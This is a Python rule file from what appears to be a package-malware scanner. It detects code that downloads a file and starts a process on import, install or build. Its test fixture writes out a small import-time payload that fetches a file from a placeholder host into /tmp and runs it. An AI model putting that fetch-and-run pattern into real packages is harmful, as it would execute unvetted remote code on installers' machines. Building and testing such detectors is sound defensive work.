"""A file is fetched and a process started."""

from __future__ import annotations

from typing import TYPE_CHECKING

from veln_hook.signals.source.rule import HOLD, REVIEW, Hit, Rule
from veln_hook.source import vocabulary as v

if TYPE_CHECKING:
    from collections.abc import Iterator

    from veln_hook.signals.source.view import View


def _find(view: View) -> Iterator[Hit]:
    written = {c.path for c in view.of(v.WRITE, by_itself=True) if "remote" in c.taints}
    for net, process, reach, near in view.pairs(
        (v.NET,), (v.PROC, v.LOAD, v.NATIVE), by_itself=True, near=False
    ):
        fetched = net.path in written or net.detail in ("urlretrieve", "download")
        if not near and not fetched:
            continue
        grade = HOLD if fetched or reach == "build" else REVIEW
        yield Hit(
            f"it reaches {net.detail or 'the network'} and starts {process.detail or 'a process'} when it "
            f"is {_WHEN[reach]}",
            (process, net),
            grade,
        )


_WHEN = {"startup": "installed and Python starts", "build": "built", "import": "imported"}

RULE = Rule(
    name="download-execution",
    description="The same code reaches the network and starts a process, without being called by anybody.",
    grade=REVIEW,
    find=_find,
    fires={
        "acme/__init__.py": "import subprocess, urllib.request\n"
        "urllib.request.urlretrieve('https://example.test/x', '/tmp/x')\nsubprocess.Popen(['/tmp/x'])\n"
    },
    quiet={
        "acme/__init__.py": "import subprocess, urllib.request\n\ndef update():\n"
        "    urllib.request.urlretrieve('https://example.test/x', '/tmp/x')\n"
        "    subprocess.Popen(['/tmp/x'])\n"
    },
    rates="244 + 257 of 2,004 malicious clusters, none of 200 popular archives",
)
